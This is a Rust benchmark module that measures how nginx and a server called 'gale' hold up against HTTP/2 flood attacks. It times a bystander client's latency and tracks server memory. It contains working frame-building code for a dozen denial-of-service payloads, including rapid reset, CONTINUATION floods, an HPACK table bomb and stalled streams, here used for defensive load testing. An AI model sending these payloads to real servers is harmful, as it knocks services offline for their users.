//! floods: effect of hostile HTTP/2 clients on a well-behaved one.
//!
//! Attackers repeat one attack on connections that they reopen when the server closes them. Meanwhile a bystander
//! requests two bytes every 20 ms over its own connection. The results are its latency and the server's memory; both
//! are also measured before the attack. The server has its own core.

use std::io::{Read, Write};
use std::net::{Shutdown, TcpStream};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::time::{Duration, Instant};

use serde::Serialize;

use crate::Measured;
use crate::case::in_turn;
use crate::client::http2::{
    self, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, PRIORITY, RST_STREAM, SETTINGS, Scheme,
    WINDOW_UPDATE, frame,
};
use crate::memory::{self, Memory};
use crate::options::Options;
use crate::report::{self, Document, Spread};
use crate::servers::{Program, Running, Setting};

/// Attackers, with a connection each.
pub const ATTACKERS: usize = 4;

const PROBE_EVERY: Duration = Duration::from_millis(20);

/// Time limit of an attacker's read, after which it checks for the end of the run.
const LOOK_EVERY: Duration = Duration::from_millis(250);

/// Time limit for an answer, and for room in a socket.
const PATIENCE: Duration = Duration::from_secs(10);

/// Approximate number of bytes sent at once in an attack.
const PIECE: usize = 16 * 1024;

/// Maximum number of rounds on a connection, because stream numbers are limited.
const ROUNDS_MAX: u32 = 1 << 29;

pub struct Attack {
    pub name: &'static str,
    bounded_by: &'static str,
    /// Returns the bytes of a round; rounds are counted from 0.
    next: fn(u32) -> Vec<u8>,
    /// Sent once when the connection is open; then the attacker waits until the server closes it.
    is_held: bool,
}

pub const ATTACKS: &[Attack] = &[
    Attack {
        name: "rapid reset",
        bounded_by: "`http2_flood_limits` resets",
        next: |round| [head(odd(round), true), frame(RST_STREAM, 0, odd(round), &8u32.to_be_bytes())].concat(),
        is_held: false,
    },
    Attack {
        name: "resets that the server is made to send",
        bounded_by: "`http2_flood_limits` resets",
        next: |round| [head_of("/held", odd(round), false), frame(WINDOW_UPDATE, 0, odd(round), &[0; 4])].concat(),
        is_held: false,
    },
    Attack {
        name: "PING",
        bounded_by: "`http2_flood_limits` pings",
        next: |_| frame(PING, 0, 0, &[0; 8]),
        is_held: false,
    },
    Attack {
        name: "SETTINGS",
        bounded_by: "`http2_flood_limits` settings",
        next: |_| frame(SETTINGS, 0, 0, &[]),
        is_held: false,
    },
    Attack {
        name: "WINDOW_UPDATE",
        bounded_by: "`http2_flood_limits` window_updates",
        next: |_| frame(WINDOW_UPDATE, 0, 0, &1u32.to_be_bytes()),
        is_held: false,
    },
    Attack {
        name: "PRIORITY",
        bounded_by: "`http2_flood_limits` priorities",
        next: |_| frame(PRIORITY, 0, 1, &[0, 0, 0, 0, 7]),
        is_held: false,
    },
    Attack {
        name: "empty DATA",
        bounded_by: "`http2_flood_limits` empty_frames",
        next: |round| if round == 0 { head_of("/held", 1, false) } else { frame(DATA, 0, 1, &[]) },
        is_held: false,
    },
    Attack {
        name: "CONTINUATION",
        bounded_by: "16 frames, 64 KiB of a block",
        next: |round| match round {
            0 => frame(HEADERS, 0, 1, &block()),
            _ => frame(CONTINUATION, 0, 1, &[0, 1, b'x', 1, b'y']),
        },
        is_held: false,
    },
    Attack {
        name: "a bomb of the table",
        bounded_by: "twice the limit of a head, decoded",
        next: |round| frame(HEADERS, END_HEADERS | END_STREAM, odd(round), &bomb()),
        is_held: false,
    },
    Attack {
        name: "128 requests to pass on, then the end",
        bounded_by: "one request at once, the others in line",
        next: |round| match round {
            0..128 => head_of("/held", odd(round), true),
            _ => Vec::new(),
        },
        is_held: false,
    },
    Attack {
        name: "100 streams without a window",
        bounded_by: "`send_timeout`",
        next: |round| match round {
            0 => frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]),
            1..=100 => head_of("/file-64k", odd(round), true),
            _ => Vec::new(),
        },
        is_held: true,
    },
    Attack {
        name: "100 bodies that stop",
        bounded_by: "`client_body_timeout`",
        next: |round| match round {
            0..100 => [head_of("/held", odd(round), false), frame(DATA, 0, odd(round), b"x")].concat(),
            _ => Vec::new(),
        },
        is_held: true,
    },
];

fn odd(round: u32) -> u32 {
    2 * round + 1
}

fn block() -> Vec<u8> {
    http2::block(Scheme::Http, "/return")
}

fn head_of(path: &str, stream: u32, is_whole: bool) -> Vec<u8> {
    frame(HEADERS, END_HEADERS | if is_whole { END_STREAM } else { 0 }, stream, &http2::block(Scheme::Http, path))
}

fn head(stream: u32, is_whole: bool) -> Vec<u8> {
    head_of("/return", stream, is_whole)
}

/// Returns a header block with a field of 3,000 bytes that enters the dynamic table, followed by 2,000 references to
/// it.
fn bomb() -> Vec<u8> {
    // 3000 as an integer with a prefix of seven bits (RFC 7541, section 5.1).
    let length = [0x7f, ((3000 - 127) % 128) as u8 | 0x80, ((3000 - 127) / 128) as u8];
    [block(), vec![0x40, 1, b'x'], length.to_vec(), vec![b'v'; 3000], vec![0x80 | 62; 2000]].concat()
}

#[derive(Clone, Debug, Default, Serialize)]
struct Sample {
    /// Latency of the bystander in milliseconds: before the attack, then during it.
    p99_before_ms: f64,
    p99_ms: f64,
    longest_ms: f64,
    failed: u64,
    /// Connections of the attackers, and MiB that they sent.
    connections: u64,
    sent_mib: f64,
    /// PSS of the server in MiB: before the attack, and the maximum.
    before_mib: f64,
    most_mib: f64,
}

#[derive(Debug, Serialize)]
struct Row {
    attack: &'static str,
    bounded_by: &'static str,
    server: String,
    samples: Vec<Sample>,
}

pub fn measure(options: &Options) -> Measured {
    let programs = options.servers(Some(&["nginx", "gale"]))?;
    let mut rows = Vec::new();
    for attack in ATTACKS {
        let samples = in_turn(options.idle_rounds, &programs, |program, round| {
            let sample = measure_one(options, program, attack)?;
            eprintln!("floods: {}, {} round {round}: {sample:?}", attack.name, program.label);
            Ok(sample)
        })?;
        rows.extend(programs.iter().zip(samples).map(|(program, samples)| Row {
            attack: attack.name,
            bounded_by: attack.bounded_by,
            server: program.label.clone(),
            samples,
        }));
    }
    let spread = |row: &Row, figure: fn(&Sample) -> f64| Spread::of(row.samples.iter().map(figure)).to_string();
    let table = report::table_of(
        &rows,
        &[
            ("attack", &|row: &Row| row.attack.to_owned()),
            ("server", &|row| row.server.clone()),
            ("what bounds it", &|row| {
                if row.server.starts_with("gale") { row.bounded_by.to_owned() } else { String::new() }
            }),
            ("p99 before, ms", &|row| spread(row, |sample| sample.p99_before_ms)),
            ("p99 during, ms", &|row| spread(row, |sample| sample.p99_ms)),
            ("longest", &|row| spread(row, |sample| sample.longest_ms)),
            ("failed", &|row| row.samples.iter().map(|sample| sample.failed).sum::<u64>().to_string()),
            ("connections", &|row| spread(row, |sample| sample.connections as f64)),
            ("MiB sent", &|row| spread(row, |sample| sample.sent_mib)),
            ("MiB before", &|row| spread(row, |sample| sample.before_mib)),
            ("MiB at most", &|row| spread(row, |sample| sample.most_mib)),
        ],
    );
    let body = format!(
        "The wait of a client that asks every {} ms on a connection of its own, while {ATTACKERS} others do what the \
         row says for {} s, over HTTP/2 in the clear; and PSS of the server. {} rounds; median (least – greatest).\n\n\
         {table}",
        PROBE_EVERY.as_millis(),
        options.run_time.as_secs(),
        options.idle_rounds
    );
    let holds = rows.iter().filter(|row| row.server.starts_with("gale")).flat_map(|row| &row.samples);
    let holds = holds.map(|sample| sample.failed).sum::<u64>() == 0;
    Ok((Document::new("floods", "Floods of HTTP/2, and a bystander", &programs, &body, &rows)?, holds))
}

fn measure_one(options: &Options, program: &Program, attack: &Attack) -> Result<Sample, String> {
    let server = program.start(Setting { cores: Some(vec![options.server_core]), ..setting() })?;
    let fault = |error: std::io::Error| format!("{}, {}: {error}", program.label, attack.name);
    let in_peace = Waits::of(&server.address, options.run_time).map_err(fault)?;
    let before = Memory::read(&server.root.tree());
    let (is_over, sent, connections) = (AtomicBool::new(false), AtomicU64::new(0), AtomicU64::new(0));
    let (waits, most) = std::thread::scope(|scope| {
        for _ in 0..ATTACKERS {
            scope.spawn(|| {
                while !is_over.load(Ordering::Relaxed) {
                    connections.fetch_add(1, Ordering::Relaxed);
                    // An error is expected: the server closes the connection.
                    let _ = attack_once(&server, attack, &is_over, &sent);
                }
            });
        }
        let most = scope.spawn(|| memory::most_pss_kib(server.root, &is_over));
        let waits = Waits::of(&server.address, options.run_time);
        is_over.store(true, Ordering::Relaxed);
        (waits, most.join().unwrap_or(0))
    });
    let waits = waits.map_err(fault)?;
    let mib = |kib: u64| kib as f64 / 1024.0;
    Ok(Sample {
        p99_before_ms: in_peace.p99_ms(),
        p99_ms: waits.p99_ms(),
        longest_ms: waits.longest_ms(),
        failed: in_peace.failed + waits.failed,
        connections: connections.into_inner(),
        sent_mib: sent.into_inner() as f64 / 1024.0 / 1024.0,
        before_mib: mib(before.pss_kib),
        most_mib: mib(most.max(before.pss_kib)),
    })
}

/// Returns the server settings that the attacks need.
pub fn setting() -> Setting {
    Setting {
        http: "http2 on;".to_owned(),
        // A proxied request waits for its complete body, so it is held.
        server: "location = /held { proxy_pass http://127.0.0.1:9; }".to_owned(),
        ..Setting::default()
    }
}

/// Attacks on one connection until the server closes it or the run ends.
pub fn attack_once(server: &Running, attack: &Attack, is_over: &AtomicBool, sent: &AtomicU64) -> std::io::Result<()> {
    let mut stream = TcpStream::connect(&server.address)?;
    stream.set_read_timeout(Some(LOOK_EVERY))?;
    stream.set_write_timeout(Some(PATIENCE))?;
    let mut heard = stream.try_clone()?;
    std::thread::scope(|scope| {
        // Reads everything that the server sends. Otherwise the attacker would be limited by flow control.
        let listening = scope.spawn(move || {
            let mut buffer = vec![0; 64 * 1024];
            loop {
                match heard.read(&mut buffer) {
                    Ok(0) => return,
                    Ok(_) => {}
                    Err(error) if is_waiting(&error) && !is_over.load(Ordering::Relaxed) => {}
                    Err(_) => return,
                }
            }
        });
        let mut piece = [PREFACE, &frame(SETTINGS, 0, 0, &[])].concat();
        for round in 0..ROUNDS_MAX {
            let more = (attack.next)(round);
            let is_last = more.is_empty();
            piece.extend(more);
            if piece.len() >= PIECE || is_last || round == 0 {
                stream.write_all(&piece)?;
                sent.fetch_add(piece.len() as u64, Ordering::Relaxed);
                piece.clear();
            }
            if is_last || is_over.load(Ordering::Relaxed) || listening.is_finished() {
                break;
            }
        }
        while attack.is_held && !listening.is_finished() && !is_over.load(Ordering::Relaxed) {
            std::thread::sleep(PROBE_EVERY);
        }
        // The connection may be closed already.
        let _ = stream.shutdown(Shutdown::Both);
        Ok(())
    })
}

/// Returns true if a read has timed out.
fn is_waiting(error: &std::io::Error) -> bool {
    matches!(error.kind(), std::io::ErrorKind::WouldBlock | std::io::ErrorKind::TimedOut)
}

/// Latencies of a bystander.
#[derive(Default)]
pub struct Waits {
    sorted: Vec<Duration>,
    pub failed: u64,
}

impl Waits {
    pub fn of(address: &str, time: Duration) -> std::io::Result<Waits> {
        let end = Instant::now() + time;
        Waits::asked_while(address, || Instant::now() < end)
    }

    /// Sends requests until `is_over`.
    pub fn until(address: &str, is_over: &AtomicBool) -> std::io::Result<Waits> {
        Waits::asked_while(address, || !is_over.load(Ordering::Relaxed))
    }

    fn asked_while(address: &str, goes_on: impl Fn() -> bool) -> std::io::Result<Waits> {
        let mut waits = Waits::default();
        let mut stream = connect(address)?;
        while goes_on() {
            let begun = Instant::now();
            match ask(&mut stream) {
                Ok(()) => waits.sorted.push(begun.elapsed()),
                Err(_) => {
                    waits.failed += 1;
                    stream = connect(address)?;
                }
            }
            std::thread::sleep(PROBE_EVERY.saturating_sub(begun.elapsed()));
        }
        waits.sorted.sort_unstable();
        Ok(waits)
    }

    fn p99_ms(&self) -> f64 {
        let place = (self.sorted.len() * 99 / 100).min(self.sorted.len().saturating_sub(1));
        self.sorted.get(place).map_or(0.0, |wait| wait.as_secs_f64() * 1e3)
    }

    /// Answers that came.
    pub fn count(&self) -> u64 {
        self.sorted.len() as u64
    }

    pub fn longest_ms(&self) -> f64 {
        self.sorted.last().map_or(0.0, |wait| wait.as_secs_f64() * 1e3)
    }
}

fn connect(address: &str) -> std::io::Result<TcpStream> {
    let stream = TcpStream::connect(address)?;
    stream.set_nodelay(true)?;
    stream.set_read_timeout(Some(PATIENCE))?;
    Ok(stream)
}

/// Requests two bytes over HTTP/1 and waits for them.
fn ask(stream: &mut TcpStream) -> std::io::Result<()> {
    stream.write_all(b"GET /return HTTP/1.1\r\nHost: localhost\r\n\r\n")?;
    let (mut answer, mut piece) = (Vec::new(), [0; 4096]);
    while !answer.windows(4).any(|end| end == b"\r\n\r\n") || !answer.ends_with(crate::servers::SMALL_BODY) {
        let length = stream.read(&mut piece)?;
        if length == 0 {
            return Err(std::io::ErrorKind::UnexpectedEof.into());
        }
        answer.extend_from_slice(&piece[..length]);
    }
    if answer.starts_with(b"HTTP/1.1 200 ") { Ok(()) } else { Err(std::io::ErrorKind::InvalidData.into()) }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_bomb_fits_into_a_frame() {
        assert!(bomb().len() < 16 * 1024);
    }
}
